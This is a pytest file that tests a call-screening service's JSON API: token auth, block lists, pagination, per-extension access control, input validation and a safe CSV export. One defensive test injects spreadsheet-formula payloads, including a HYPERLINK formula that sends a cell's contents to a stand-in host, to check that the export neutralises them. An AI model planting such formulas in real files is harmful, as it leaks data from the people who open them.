"""The JSON API on each backend, as a script would use it: bearer tokens, the CLI's checks
and messages, keyset pages, and a user who can never read or change another extension."""

from __future__ import annotations

import csv
import re
from datetime import UTC, datetime
from pathlib import Path

import pytest
from sqlalchemy import select
from sqlalchemy.orm import Session
from starlette.testclient import TestClient

from screening.store import calllog
from screening.store.engine import make_engine
from screening.store.models import AuditEntry
from tests.cli_helpers import run
from tests.db.conftest import PASSWORD, Api
from tests.db.test_web import log_calls


def test_no_token_or_a_wrong_one_is_refused(apis: tuple[Api, Api, TestClient]) -> None:
    _, _, client = apis
    assert client.get("/api/v1/me").status_code == 401
    r = client.get("/api/v1/me", headers={"Authorization": "Bearer not-a-token"})
    assert (r.status_code, r.json()["field"]) == (401, "authentication")
    assert client.get("/api/v1/openapi.json").json()["openapi"].startswith("3.")


def test_admin_adds_blocks_with_the_clis_checks_and_messages(
    apis: tuple[Api, Api, TestClient], database_url: str
) -> None:
    admin, _, _ = apis
    assert admin.get("/me") == (200, {"name": "alice", "role": "admin", "extension": None})
    status, entry = admin.post("/lists/block", {"number": "+1 (555) 123-4567", "reason": "robo"})
    assert status == 201
    assert entry == {
        "id": entry["id"],  # type: ignore[index]
        "kind": "block",
        "number": "+15551234567",
        "extension": None,
        "code": 607,
        "reason": "robo",
        "source": "api",
        "expires": None,
    }
    assert admin.post("/lists/block", {"number": "5551234567", "code": "608"})[0] == 200
    assert admin.post("/lists/block", {"number": "hello"}) == (
        400,
        {
            "error": "number: expected a phone number like +15551234567 or a prefix like "
            "+1900*, got 'hello'",
            "field": "number",
        },
    )
    status, error = admin.post("/lists/block", {"number": "+15550000000", "code": "606"})
    assert (status, error["field"]) == (400, "code")  # type: ignore[index]
    status, error = admin.post("/lists/block", {"number": 5550000000.5})
    assert status == 400
    status, page = admin.get("/lists/block")
    assert [(e["number"], e["code"]) for e in page["entries"]] == [("+15551234567", 608)]  # type: ignore[index]
    engine = make_engine(database_url)
    with Session(engine) as s:
        actions = list(s.scalars(select(AuditEntry.action)))
    engine.dispose()
    assert actions.count("api block add") == 1 and actions.count("api block update") == 1


def test_pages_cover_every_entry_once_in_number_order(apis: tuple[Api, Api, TestClient]) -> None:
    admin, _, _ = apis
    numbers = [f"+1555{n:07d}" for n in range(0, 1200, 10)]  # 120 entries
    for n in numbers:
        assert admin.post("/lists/allow", {"number": n})[0] == 201
    seen: list[str] = []
    after: str | None = None
    pages = 0
    while True:
        params = {"limit": "50", **({"after": after} if after else {})}
        status, page = admin.get("/lists/allow", **params)
        assert status == 200
        seen += [e["number"] for e in page["entries"]]  # type: ignore[index]
        pages += 1
        after = page["next"]  # type: ignore[index]
        if after is None:
            break
    assert (pages, seen) == (3, numbers)
    status, page = admin.get("/lists/allow", number="+15550001")
    assert [e["number"] for e in page["entries"]] == [  # type: ignore[index]
        "+15550001000",
        "+15550001010",
        "+15550001020",
        "+15550001030",
        "+15550001040",
        "+15550001050",
        "+15550001060",
        "+15550001070",
        "+15550001080",
        "+15550001090",
        "+15550001100",
        "+15550001110",
        "+15550001120",
        "+15550001130",
        "+15550001140",
        "+15550001150",
        "+15550001160",
        "+15550001170",
        "+15550001180",
        "+15550001190",
    ]
    assert admin.get("/lists/allow", after="garbage")[0] == 400
    assert admin.get("/lists/allow", limit="0")[0] == 400


def test_a_user_sees_and_changes_only_their_own_extension(
    apis: tuple[Api, Api, TestClient], database_url: str
) -> None:
    admin, user, _ = apis
    assert admin.post("/lists/block", {"number": "+15550000001"})[0] == 201  # global
    _, other = admin.post("/lists/block", {"number": "+15550000002", "extension": "202"})
    status, mine = user.post("/lists/block", {"number": "+15550000003"})
    assert (status, mine["extension"]) == (201, "201")  # type: ignore[index]
    assert user.post("/lists/block", {"number": "+15550000004", "extension": "202"})[0] == 403
    status, page = user.get("/lists/block")
    assert [e["number"] for e in page["entries"]] == ["+15550000003"]  # type: ignore[index]
    assert user.get("/lists/block", extension="202")[0] == 403
    assert user.get("/lists/block", extension="global")[0] == 403
    assert user.delete(f"/lists/block/{other['id']}")[0] == 403  # type: ignore[index]
    assert user.delete(f"/lists/block/{mine['id']}")[0] == 200  # type: ignore[index]
    log_calls(
        database_url,
        ("201", "+15557000001", "allowed", None, None),
        ("202", "+15557000002", "allowed", None, None),
    )
    status, calls = user.get("/calls")
    assert [c["extension"] for c in calls["calls"]] == ["201"]  # type: ignore[index]
    assert user.get("/calls", extension="202")[0] == 403
    _, everything = admin.get("/calls")
    ids = {c["extension"]: c["id"] for c in everything["calls"]}  # type: ignore[index]
    assert user.post(f"/calls/{ids['202']}/spam", {})[0] == 403
    status, marked = user.post(f"/calls/{ids['201']}/spam", {})
    assert (status, marked["outcome"]) == (200, "marked")  # type: ignore[index]
    assert user.post(f"/calls/{ids['201']}/spam", {}, undo="1")[1]["outcome"] == "unmarked"  # type: ignore[index]
    assert user.get("/check", caller="+15557000003", extension="202")[0] == 403
    assert user.get("/stats")[0] == 403
    assert user.put("/policies/anonymous", {"action": "reject"})[0] == 403
    assert (
        user.post("/dnd", {"extension": "202", "days": "all", "from": "09:00", "to": "17:00"})[0]
        == 403
    )
    assert user.put("/manual-dnd/202", {"on": True})[0] == 403
    assert user.put("/manual-dnd/201", {"on": True})[1]["on"] is True  # type: ignore[index]


def test_policies_dnd_and_check_through_the_api(apis: tuple[Api, Api, TestClient]) -> None:
    admin, _, _ = apis
    status, policy = admin.put("/policies/unverified", {"action": "challenge", "extension": "201"})
    assert (status, policy["action"], policy["code"]) == (201, "challenge", None)  # type: ignore[index]
    status, error = admin.put("/policies/robots", {"action": "reject"})
    assert (status, error["field"]) == (400, "kind")  # type: ignore[index]
    status, checked = admin.get("/check", caller="+15551230000", extension="201")
    assert (status, checked["action"]) == (200, "challenge")  # type: ignore[index]
    status, window = admin.post(
        "/dnd", {"extension": "203", "days": "mon-fri", "from": "22:00", "to": "07:00", "tz": "UTC"}
    )
    assert status == 201 and "22:00-07:00" in window["description"]  # type: ignore[index]
    status, error = admin.post(
        "/dnd", {"extension": "203", "days": "someday", "from": "x", "to": "y"}
    )
    assert (status, error["field"]) == (400, "days")  # type: ignore[index]
    status, listed = admin.get("/dnd", extension="203")
    assert [w["id"] for w in listed["schedules"]] == [window["id"]]  # type: ignore[index]
    assert admin.delete(f"/dnd/{window['id']}")[0] == 200  # type: ignore[index]
    assert admin.delete(f"/dnd/{window['id']}")[0] == 404  # type: ignore[index]


@pytest.mark.parametrize("raw", ["0000011000", "²", "1²", "٣", "\uff11", "1" * 40, "-1"])
def test_numbers_are_ascii_digits_within_their_bounds(
    apis: tuple[Api, Api, TestClient], raw: str
) -> None:
    # "0000011000" passed the 500-row cap (1,200 rows came back); "²" passes str.isdigit()
    # and then int() gave a 500.
    admin, _, _ = apis
    for n in range(3):
        assert admin.post("/lists/block", {"number": f"+155500000{n:02d}"})[0] == 201
    asked = [("/lists/block", {"limit": raw}), ("/calls", {"limit": raw})]
    if raw != "0000011000":  # a call id with leading zeros is still a call id
        asked.append(("/calls", {"before": raw}))
    for path, params in asked:
        status, error = admin.get(path, **params)
        assert status == 400, (path, params, error)
    status, _ = admin.delete(f"/lists/block/{raw}")
    assert status in (400, 404)
    status, _ = admin.post(f"/calls/{raw}/spam", {})
    assert status in (400, 404)


def test_the_admins_export_is_safe_to_open_in_a_spreadsheet(
    apis: tuple[Api, Api, TestClient], database_url: str, tmp_path: Path
) -> None:
    # A user's reason went into the admin's export as it was: a spreadsheet runs
    # "=HYPERLINK(...)" or "@SUM(...)" as a formula (OWASP, CSV injection).
    admin, user, _ = apis
    reasons = ['=HYPERLINK("http://x.example/?"&A1,"click")', "@SUM(1+1)", "+1+1", "-2", "'=x"]
    for n, reason in enumerate(reasons):
        status, _ = user.post("/lists/block", {"number": f"+1555010{n:04d}", "reason": reason})
        assert status == 201
    env = {"SCREENING_DATABASE_URL": database_url}
    out = tmp_path / "rules.csv"
    assert run("export", str(out), env=env).code == 0
    cells = {row["number"]: row["reason"] for row in csv.DictReader(out.open())}
    assert cells == {f"+1555010{n:04d}": f"'{r}" for n, r in enumerate(reasons)}
    assert all(not c.startswith(("=", "+", "-", "@")) for c in cells.values())
    # Our own export reads back unchanged.
    _, page = admin.get("/lists/block", extension="201")
    for e in page["entries"]:  # type: ignore[index]
        assert admin.delete(f"/lists/block/{e['id']}")[0] == 200
    assert admin.get("/lists/block", extension="201")[1]["entries"] == []  # type: ignore[index]
    assert run("import", str(out), env=env).code == 0
    status, page = admin.get("/lists/block", extension="201")
    got = {e["number"]: e["reason"] for e in page["entries"]}  # type: ignore[index]
    assert got == {f"+1555010{n:04d}": r for n, r in enumerate(reasons)}


def test_a_user_learns_the_kind_of_rule_never_an_admins_rule_or_its_note(
    apis: tuple[Api, Api, TestClient], database_url: str
) -> None:
    # /check showed the user of 201 the global entry that decided, with its id, number and
    # the admin's reason. A user learns which kind of rule decided; the rule is the admin's.
    admin, user, client = apis
    status, entry = admin.post("/lists/block", {"number": "+15550990007", "reason": "sued us"})
    assert status == 201
    status, seen = user.get("/check", caller="+15550990007")
    assert status == 200
    assert (seen["action"], seen["sip_code"], seen["rule_kind"]) == ("reject", 607, "block")  # type: ignore[index]
    assert (seen["rule_id"], seen["reason"]) == (None, "a block entry")  # type: ignore[index]
    assert "sued" not in str(seen) and "990007 (" not in str(seen)
    status, full = admin.get("/check", caller="+15550990007", extension="201")
    assert full["rule_id"] == entry["id"] and "sued us" in full["reason"]  # type: ignore[index]
    # The same for the calls to 201 as the call log keeps them.
    engine = make_engine(database_url)
    with Session(engine) as s, s.begin():
        calllog.write_call_log(
            s,
            [
                calllog.CallRecord(
                    datetime.now(UTC),
                    "c1",
                    "+15550990007",
                    "+15550990007",
                    "201",
                    "rejected",
                    607,
                    "block",
                    entry["id"],  # type: ignore[index]
                    f"block #{entry['id']} global +15550990007 (sued us)",  # type: ignore[index]
                    900,
                )
            ],
        )
    engine.dispose()
    _, calls = user.get("/calls")
    (call,) = calls["calls"]  # type: ignore[index]
    assert (call["reason"], call["rule_id"], call["rule_kind"]) == ("a block entry", None, "block")
    _, calls = admin.get("/calls", extension="201")
    assert "sued us" in calls["calls"][0]["reason"]  # type: ignore[index]
    # And on the user's page in the console.
    assert client.post(
        "/login", data={"name": "bob", "password": PASSWORD, "csrf": _csrf(client)}
    ).status_code in (200, 303)
    page = client.get("/ext/201").text
    assert "a block entry" in page and "sued us" not in page


def _csrf(client: TestClient) -> str:
    page = client.get("/login").text
    m = re.search(r'name="csrf" value="([^"]+)"', page)
    assert m is not None
    return m.group(1)


def test_a_body_nested_a_thousand_deep_is_refused_not_a_server_error(
    apis: tuple[Api, Api, TestClient],
) -> None:
    admin, _, client = apis
    deep = '{"x": ' + "[" * 1000 + "]" * 1000 + ', "on": false}'
    r = client.put(
        "/api/v1/manual-dnd/201",
        content=deep,
        headers={**admin.headers, "content-type": "application/json"},
    )
    assert (r.status_code, r.json()["field"]) == (400, "body")


def test_another_extensions_switch_is_refused_whatever_the_body_says(
    apis: tuple[Api, Api, TestClient], caplog: pytest.LogCaptureFixture
) -> None:
    # A user's probe of another extension is a refusal in the log, even with a bad body.
    _, user, _ = apis
    for body in ({"on": "yes"}, {"on": 1}, {}):
        status, error = user.put("/manual-dnd/202", body)
        assert (status, error["field"]) == (403, "extension"), body  # type: ignore[index]
    assert caplog.text.count("api: bob refused") == 3


def test_an_echoed_value_is_cut_and_a_reason_is_printable_text(
    apis: tuple[Api, Api, TestClient],
) -> None:
    admin, _, _ = apis
    for field in ("number", "extension", "expires"):
        body = {"number": "+15550100009", field: "9" * 15000 + "x"}
        status, error = admin.post("/lists/block", body)
        assert (status, error["field"]) == (400, field)  # type: ignore[index]
        assert len(error["error"]) < 400, len(error["error"])  # type: ignore[index]
    # A bidi override, a line separator or DEL would disturb how the reason is shown.
    for sneaky in ("\u202eevil", "one\u2028two", "del\x7f"):
        status, error = admin.post("/lists/block", {"number": "+15550100009", "reason": sneaky})
        assert (status, error["field"]) == (400, "reason"), sneaky  # type: ignore[index]


def test_a_time_the_api_is_sent_without_an_offset_is_utc(
    apis: tuple[Api, Api, TestClient], monkeypatch: pytest.MonkeyPatch
) -> None:
    # The API writes UTC; it reads UTC too, whatever zone the machine is in.
    monkeypatch.setenv("TZ", "America/New_York")
    admin, _, _ = apis
    status, entry = admin.post(
        "/lists/block", {"number": "+15550100011", "expires": "2099-01-01 12:00"}
    )
    assert (status, entry["expires"]) == (201, "2099-01-01T12:00:00Z")  # type: ignore[index]
    status, dnd = admin.put("/manual-dnd/201", {"on": True, "until": "2099-01-01 12:00"})
    assert (status, dnd["until"]) == (200, "2099-01-01T12:00:00Z")  # type: ignore[index]
